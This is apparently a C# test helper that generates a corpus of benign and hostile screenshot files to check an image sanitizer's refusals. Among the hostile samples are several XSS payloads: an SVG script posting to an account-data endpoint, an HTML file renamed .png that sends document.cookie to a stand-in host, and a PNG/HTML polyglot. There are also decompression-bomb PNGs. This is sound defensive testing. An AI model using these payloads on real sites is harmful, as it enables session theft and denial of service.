using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using CovidEntry.App.Features.Screenshots;
using SkiaSharp;

namespace CovidEntry.Tests.Infrastructure;

/// <summary>One corpus file: what it is, how to make it, and the refusal it must get (null: accepted).</summary>
public sealed record CorpusCase(string Name, Func<byte[]> Build, ImageRefusalReason? Refusal);

/// <summary>
/// Screenshot files good and hostile, made in code so no test depends on a downloaded file. Each
/// method returns fresh bytes; <see cref="Cases"/> names them all with the outcome the sanitizer
/// must give.
/// </summary>
public static class ImageCorpus
{
    public static IReadOnlyList<CorpusCase> Cases { get; } =
    [
        new("screenshot.png", () => ScreenshotPng(), null),
        new("screenshot.jpg", () => ScreenshotJpeg(), null),
        new("screenshot.webp", () => ScreenshotWebP(), null),
        new("blank white page.png", () => BlankPng(), null),
        new("PNG with an eXIf chunk", PngWithExif, null),
        new("JPEG with an EXIF segment", JpegWithExif, null),
        new("PNG with HTML after IEND", PngWithHtmlAfterEnd, null),
        new("empty file", () => [], ImageRefusalReason.Empty),
        new("11 MB starting with the PNG signature", OversizedWithPngSignature, ImageRefusalReason.TooLarge),
        new("SVG with a script", SvgWithScript, ImageRefusalReason.NotAnImage),
        new("HTML page renamed .png", HtmlRenamedPng, ImageRefusalReason.NotAnImage),
        new("GIF", Gif, ImageRefusalReason.NotAnImage),
        new("PNG signature then HTML", PngSignatureThenHtml, ImageRefusalReason.Damaged),
        new("PNG cut in the middle of IDAT", TruncatedPng, ImageRefusalReason.Damaged),
        new("JPEG cut in half", TruncatedJpeg, ImageRefusalReason.Damaged),
        new("PNG header claiming 100000 × 100000", HugeDimensionPng, ImageRefusalReason.TooManyPixels),
        new("8000 × 8000 single-colour PNG (decompression bomb)", DecompressionBombPng, ImageRefusalReason.TooManyPixels),
        new("86-byte PNG claiming 40 megapixels", TinyPngClaimingFortyMegapixels, ImageRefusalReason.Damaged),
        new("interlaced 16-bit RGBA PNG claiming 40 megapixels in 200 KB", InterlacedDeepPngClaimingFortyMegapixels, ImageRefusalReason.Damaged),
    ];

    /// <summary>The side of a square image just under 40 megapixels, the most a screenshot may have.</summary>
    public const int FortyMegapixelSide = 6324;

    /// <summary>
    /// 86 bytes: a PNG whose header claims 6324 × 6324 grey pixels (40 megapixels, 160 MB as RGBA)
    /// and whose image data holds one row. Within the pixel limit, so only its size gives it away.
    /// </summary>
    public static byte[] TinyPngClaimingFortyMegapixels() => GreyPng(FortyMegapixelSide, FortyMegapixelSide, rows: 1);

    /// <summary>
    /// An interlaced 16-bit RGBA PNG header claiming 40 megapixels (a decoder keeps 8 bytes a pixel
    /// of source rows for it, on top of the bitmap) with 200 KB of data, far less than deflate can
    /// pack 320 MB of rows into.
    /// </summary>
    public static byte[] InterlacedDeepPngClaimingFortyMegapixels()
    {
        var header = new byte[13];
        BinaryPrimitives.WriteInt32BigEndian(header, FortyMegapixelSide);
        BinaryPrimitives.WriteInt32BigEndian(header.AsSpan(4), FortyMegapixelSide);
        header[8] = 16;
        header[9] = 6;
        header[12] = 1;
        return [.. PngSignature, .. Chunk("IHDR", header), .. Chunk("IDAT", new byte[200 * 1024]), .. Chunk("IEND", [])];
    }

    public static byte[] ScreenshotPng(int width = 800, int height = 600) =>
        Encode(ScreenshotLike(width, height), SKEncodedImageFormat.Png, 100);

    public static byte[] ScreenshotJpeg(int width = 800, int height = 600) =>
        Encode(ScreenshotLike(width, height), SKEncodedImageFormat.Jpeg, 85);

    public static byte[] ScreenshotWebP(int width = 800, int height = 600) =>
        Encode(ScreenshotLike(width, height), SKEncodedImageFormat.Webp, 80);

    /// <summary>A page that rendered nothing: one colour, white unless told.</summary>
    public static byte[] BlankPng(int width = 800, int height = 600, SKColor? colour = null)
    {
        using var bitmap = new SKBitmap(new SKImageInfo(width, height, SKColorType.Rgba8888, SKAlphaType.Opaque));
        bitmap.Erase(colour ?? SKColors.White);
        return Encode(bitmap, SKEncodedImageFormat.Png, 100);
    }

    /// <summary>A valid screenshot PNG with an EXIF chunk (a camera serial and a GPS-ish string) before IEND.</summary>
    public static byte[] PngWithExif()
    {
        var exif = "MM\0*\0\0\0\bGPS 40.7128 N 74.0060 W; camera serial 12345"u8.ToArray();
        return InsertBeforeIend(ScreenshotPng(), Chunk("eXIf", exif));
    }

    /// <summary>A valid screenshot JPEG with an EXIF APP1 segment right after SOI.</summary>
    public static byte[] JpegWithExif()
    {
        var jpeg = ScreenshotJpeg();
        byte[] exif = [.. "Exif\0\0MM\0*\0\0\0\bGPS 40.7128 N 74.0060 W; camera serial 12345"u8];
        byte[] segment = [0xFF, 0xE1, (byte)((exif.Length + 2) >> 8), (byte)(exif.Length + 2), .. exif];
        return [.. jpeg.AsSpan(0, 2), .. segment, .. jpeg.AsSpan(2)];
    }

    /// <summary>A valid PNG with an HTML page appended after IEND: a polyglot some browsers sniff as HTML.</summary>
    public static byte[] PngWithHtmlAfterEnd() =>
        [.. ScreenshotPng(), .. "<html><script>alert(document.cookie)</script></html>"u8];

    public static byte[] OversizedWithPngSignature()
    {
        var bytes = new byte[11 * 1024 * 1024];
        PngSignature.CopyTo(bytes);
        return bytes;
    }

    public static byte[] SvgWithScript() => Encoding.UTF8.GetBytes(
        """
        <?xml version="1.0" encoding="UTF-8"?>
        <svg xmlns="http://www.w3.org/2000/svg" width="200" height="100">
          <script>fetch('/Account/Manage/PersonalData', { method: 'POST' })</script>
          <rect width="200" height="100" fill="white"/>
        </svg>
        """);

    public static byte[] HtmlRenamedPng() => Encoding.UTF8.GetBytes(
        "<html><head><title>screenshot.png</title></head><body><script>document.location='//example.invalid/'+document.cookie</script></body></html>");

    /// <summary>The classic 1 × 1 transparent GIF89a.</summary>
    public static byte[] Gif() =>
    [
        0x47, 0x49, 0x46, 0x38, 0x39, 0x61, 0x01, 0x00, 0x01, 0x00, 0x80, 0x00, 0x00, 0xFF, 0xFF, 0xFF,
        0x00, 0x00, 0x00, 0x21, 0xF9, 0x04, 0x01, 0x00, 0x00, 0x00, 0x00, 0x2C, 0x00, 0x00, 0x00, 0x00,
        0x01, 0x00, 0x01, 0x00, 0x00, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3B,
    ];

    public static byte[] PngSignatureThenHtml() => [.. PngSignature, .. HtmlRenamedPng()];

    /// <summary>A valid screenshot PNG cut halfway through its first IDAT chunk's data.</summary>
    public static byte[] TruncatedPng()
    {
        var png = ScreenshotPng();
        var idat = ChunksOf(png).First(c => c.Type == "IDAT");
        return png[..(idat.Offset + 8 + idat.Length / 2)];
    }

    public static byte[] TruncatedJpeg()
    {
        var jpeg = ScreenshotJpeg();
        return jpeg[..(jpeg.Length / 2)];
    }

    /// <summary>
    /// A hand-made PNG whose IHDR claims 100000 × 100000 grey pixels (10 gigapixels) and whose
    /// IDAT holds two rows: a few hundred bytes that a naive decoder would allocate 10 GB for.
    /// </summary>
    public static byte[] HugeDimensionPng() => GreyPng(100_000, 100_000, rows: 2);

    /// <summary>
    /// A real, complete 8000 × 8000 white PNG: about 64 KB on disk, 64 megapixels (256 MB as
    /// RGBA) decoded, over the 40-megapixel limit.
    /// </summary>
    public static byte[] DecompressionBombPng() => GreyPng(8000, 8000, rows: 8000);

    /// <summary>Each chunk of a PNG: where it starts (its length field), its data length and its type.</summary>
    public static IEnumerable<(int Offset, int Length, string Type)> ChunksOf(byte[] png)
    {
        for (var offset = PngSignature.Length; offset + 8 <= png.Length;)
        {
            var length = BinaryPrimitives.ReadInt32BigEndian(png.AsSpan(offset));
            yield return (offset, length, Encoding.ASCII.GetString(png, offset + 4, 4));
            offset += 12 + length;
        }
    }

    /// <summary>The marker of each JPEG segment before the image data (0xE1 is APP1, where EXIF lives).</summary>
    public static IEnumerable<byte> JpegMarkersOf(byte[] jpeg)
    {
        for (var offset = 2; offset + 4 <= jpeg.Length && jpeg[offset] == 0xFF;)
        {
            var marker = jpeg[offset + 1];
            yield return marker;
            if (marker == 0xDA)
            {
                yield break;
            }

            offset += 2 + BinaryPrimitives.ReadUInt16BigEndian(jpeg.AsSpan(offset + 2));
        }
    }

    /// <summary>
    /// A page-like image: white, a dark header bar, rows of dark word-sized blocks standing in for
    /// text (no font needed), rules between sections and a coloured table header. Deterministic.
    /// </summary>
    public static SKBitmap ScreenshotLike(int width, int height)
    {
        var bitmap = new SKBitmap(new SKImageInfo(width, height, SKColorType.Rgba8888, SKAlphaType.Opaque));
        using var canvas = new SKCanvas(bitmap);
        using var paint = new SKPaint { IsAntialias = false };
        canvas.Clear(SKColors.White);

        paint.Color = new SKColor(0x1F, 0x3A, 0x5F);
        canvas.DrawRect(0, 0, width, Math.Min(48, height / 8), paint);

        uint seed = 12345;
        var lineHeight = 22;
        for (var y = 70; y + 12 < height; y += lineHeight)
        {
            if ((y / lineHeight) % 9 == 0)
            {
                paint.Color = new SKColor(0xC0, 0xC0, 0xC0);
                canvas.DrawRect(16, y + 5, width - 32, 1, paint);
                continue;
            }

            if ((y / lineHeight) % 9 == 1)
            {
                paint.Color = new SKColor(0xE8, 0xF0, 0xFA);
                canvas.DrawRect(16, y, width - 32, 16, paint);
            }

            paint.Color = new SKColor(0x22, 0x22, 0x22);
            var x = 16;
            while (true)
            {
                seed = seed * 1664525 + 1013904223;
                var word = 12 + (int)(seed >> 27) * 3;
                if (x + word > width - 16)
                {
                    break;
                }

                canvas.DrawRect(x, y + 2, word, 11, paint);
                x += word + 6;
            }
        }

        return bitmap;
    }

    private static ReadOnlySpan<byte> PngSignature => [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A];

    private static byte[] Encode(SKBitmap bitmap, SKEncodedImageFormat format, int quality)
    {
        using (bitmap)
        using (var data = bitmap.Encode(format, quality))
        {
            return data.ToArray();
        }
    }

    private static byte[] GreyPng(int width, int height, int rows)
    {
        var header = new byte[13];
        BinaryPrimitives.WriteInt32BigEndian(header, width);
        BinaryPrimitives.WriteInt32BigEndian(header.AsSpan(4), height);
        header[8] = 8; // bit depth; colour type 0 (grey), deflate, no filter, no interlace follow as zeros

        using var compressed = new MemoryStream();
        using (var zlib = new ZLibStream(compressed, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            var row = new byte[width + 1];
            row.AsSpan(1).Fill(0xFF);
            for (var y = 0; y < rows; y++)
            {
                zlib.Write(row);
            }
        }

        return [.. PngSignature, .. Chunk("IHDR", header), .. Chunk("IDAT", compressed.ToArray()), .. Chunk("IEND", [])];
    }

    private static byte[] InsertBeforeIend(byte[] png, byte[] chunk)
    {
        var (iend, _, _) = ChunksOf(png).Last(c => c.Type == "IEND");
        return [.. png.AsSpan(0, iend), .. chunk, .. png.AsSpan(iend)];
    }

    private static byte[] Chunk(string type, byte[] data)
    {
        var chunk = new byte[12 + data.Length];
        BinaryPrimitives.WriteInt32BigEndian(chunk, data.Length);
        Encoding.ASCII.GetBytes(type, chunk.AsSpan(4));
        data.CopyTo(chunk, 8);
        BinaryPrimitives.WriteUInt32BigEndian(chunk.AsSpan(8 + data.Length), Crc32(chunk.AsSpan(4, 4 + data.Length)));
        return chunk;
    }

    /// <summary>The CRC-32 PNG puts after each chunk (ISO 3309, reflected, 0xEDB88320).</summary>
    private static uint Crc32(ReadOnlySpan<byte> bytes)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (var bit = 0; bit < 8; bit++)
            {
                crc = (crc & 1) != 0 ? (crc >> 1) ^ 0xEDB88320u : crc >> 1;
            }
        }

        return ~crc;
    }
}
